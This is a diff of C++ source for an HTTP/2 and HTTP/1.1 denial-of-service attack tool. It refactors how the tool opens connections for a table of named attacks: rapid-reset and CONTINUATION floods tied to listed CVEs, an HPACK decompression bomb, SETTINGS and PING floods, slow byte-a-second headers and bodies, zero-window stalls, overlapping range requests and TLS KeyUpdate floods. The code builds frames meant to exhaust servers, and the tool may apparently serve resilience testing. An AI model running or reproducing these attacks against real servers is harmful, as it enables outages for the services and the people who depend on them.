@@ -64,34 +64,34 @@ void frame(std::vector<std::byte>& out, FrameType type, std::uint8_t frame_flags
 
 std::span<const AttackKind> attack_kinds() {
   static constexpr AttackKind kKinds[] = {
-      {"rapid-reset", "requests that are reset at once (CVE-2023-44487)", 0s, &Attack::greet,
-       &Attack::rapid_reset},
+      {"rapid-reset", "requests that are reset at once (CVE-2023-44487)", 0s,
+       &Attack::begin_without, &Attack::rapid_reset},
       {"provoked-resets", "requests followed by what makes the server reset them (CVE-2025-8671)",
-       0s, &Attack::greet, &Attack::provoke_resets},
+       0s, &Attack::begin_without, &Attack::provoke_resets},
       {"continuation", "a header block that never ends (CVE-2024-27316)", 0s,
        &Attack::begin_continuation, &Attack::continuations},
-      {"settings", "SETTINGS, each of which must be acknowledged", 0s, &Attack::greet,
+      {"settings", "SETTINGS, each of which must be acknowledged", 0s, &Attack::begin_without,
        &Attack::settings},
-      {"ping", "PING, each of which must be answered", 0s, &Attack::greet, &Attack::pings},
+      {"ping", "PING, each of which must be answered", 0s, &Attack::begin_without, &Attack::pings},
       {"empty-data", "DATA without data", 0s, &Attack::begin_upload, &Attack::empty_data},
       {"hpack-bomb", "fields that decode to 4,000 times their size", 0s, &Attack::begin_bomb,
        &Attack::bombs},
-      {"zero-window", "100 responses that may never be sent", 1s, &Attack::begin_zero_window,
-       &Attack::nothing},
+      {"zero-window", "100 responses that may never be sent", 1s, &Attack::begin_stalled,
+       &Attack::nothing, 0},
       {"dribble", "10 responses that are taken at 10 bytes a second each", 100ms,
-       &Attack::begin_dribble, &Attack::dribble},
+       &Attack::begin_dribble, &Attack::dribble, 0},
       {"slow-headers", "fields of HTTP/1.1, a byte a second", 1s, &Attack::begin_slow_fields,
-       &Attack::slow_fields, true},
-      {"slow-frame", "a HEADERS frame, a byte a second", 1s, &Attack::begin_slow_frame,
+       &Attack::slow_fields, 0, true},
+      {"slow-frame", "a HEADERS frame, a byte a second", 1s, &Attack::begin_without,
        &Attack::slow_frame},
       {"slow-body", "a request body, a byte a second", 1s, &Attack::begin_upload,
        &Attack::slow_body},
-      {"priority-update", "PRIORITY_UPDATE of streams to come", 0s, &Attack::greet,
+      {"priority-update", "PRIORITY_UPDATE of streams to come", 0s, &Attack::begin_without,
        &Attack::priority_updates},
-      {"ranges", "requests for 500 overlapping ranges", 20ms, &Attack::begin_ranges,
-       &Attack::ranges},
-      {"key-update", "KeyUpdate messages of TLS 1.3 (https only)", 0s, &Attack::greet,
-       &Attack::nothing, false, true},
+      {"ranges", "requests for 500 overlapping ranges", 20ms, &Attack::begin_without,
+       &Attack::ranges, http2::kLargestWindow},
+      {"key-update", "KeyUpdate messages of TLS 1.3 (https only)", 0s, &Attack::begin_without,
+       &Attack::nothing, http2::kDefaultWindow, false, true},
   };
   return kKinds;
 }
@@ -101,8 +101,7 @@ const AttackKind* find_attack(std::string_view name) {
   return found == attack_kinds().end() ? nullptr : &*found;
 }
 
-Attack::Attack(const AttackKind& kind, const TargetUrl& url)
-    : kind_(&kind), host_(url.authority) {
+Attack::Attack(const AttackKind& kind, const TargetUrl& url) : kind_(&kind), host_(url.authority) {
   const std::string ranges = overlapping_ranges();
   const Field scheme = {":scheme", url.scheme()}, authority = {":authority", url.authority},
               path = {":path", url.path};
@@ -117,11 +116,10 @@ void Attack::get(Output& out, std::span<const std::byte> block) {
   FrameWriter(out).headers(next_stream(), block, kGetFlags);
 }
 
-void Attack::greet(Output& out) { greet_with_window(out, http2::kDefaultWindow); }
-
-void Attack::greet_with_window(Output& out, std::uint32_t stream_window) {
+void Attack::greet(Output& out) const {
+  if (kind_->http1) return;
   append(out, as_bytes(http2::kClientPreface));
-  const http2::Setting settings[] = {{http2::setting::kInitialWindowSize, stream_window}};
+  const http2::Setting settings[] = {{http2::setting::kInitialWindowSize, kind_->stream_window}};
   FrameWriter(out).settings(settings);
   // The connection's window is not what stops these attacks.
   FrameWriter(out).window_update(0, http2::kLargestWindow - http2::kDefaultWindow);
@@ -149,7 +147,6 @@ std::size_t Attack::provoke_resets(Output& out) {
 }
 
 void Attack::begin_continuation(Output& out) {
-  greet(out);
   FrameWriter(out).headers(next_stream(), get_, flags::kEndStream);
 }
 
@@ -172,7 +169,6 @@ std::size_t Attack::pings(Output& out) {
 }
 
 void Attack::begin_upload(Output& out) {
-  greet(out);
   FrameWriter(out).headers(next_stream(), post_, flags::kEndHeaders);
 }
 
@@ -182,7 +178,6 @@ std::size_t Attack::empty_data(Output& out) {
 }
 
 void Attack::begin_bomb(Output& out) {
-  greet(out);
   http2::HpackEncoder encoder;
   std::vector<std::byte> block;
   encoder.begin_block(block);
@@ -200,13 +195,11 @@ std::size_t Attack::bombs(Output& out) {
   return 1;
 }
 
-void Attack::begin_zero_window(Output& out) {
-  greet_with_window(out, 0);
+void Attack::begin_stalled(Output& out) {
   for (std::size_t i = 0; i < kStalledStreams; ++i) get(out, get_);
 }
 
 void Attack::begin_dribble(Output& out) {
-  greet_with_window(out, 0);
   for (std::size_t i = 0; i < kDribbledStreams; ++i) get(out, get_);
 }
 
@@ -215,11 +208,6 @@ std::size_t Attack::dribble(Output& out) {
     FrameWriter(out).window_update(stream, 1);
   }
   return kDribbledStreams;
-}
-
-void Attack::begin_slow_frame(Output& out) {
-  greet(out);
-  position_ = 0;
 }
 
 std::size_t Attack::slow_frame(Output& out) {
@@ -252,8 +240,6 @@ std::size_t Attack::priority_updates(Output& out) {
   }
   return kPortion;
 }
-
-void Attack::begin_ranges(Output& out) { greet_with_window(out, http2::kLargestWindow); }
 
 std::size_t Attack::ranges(Output& out) {
   get(out, ranged_);
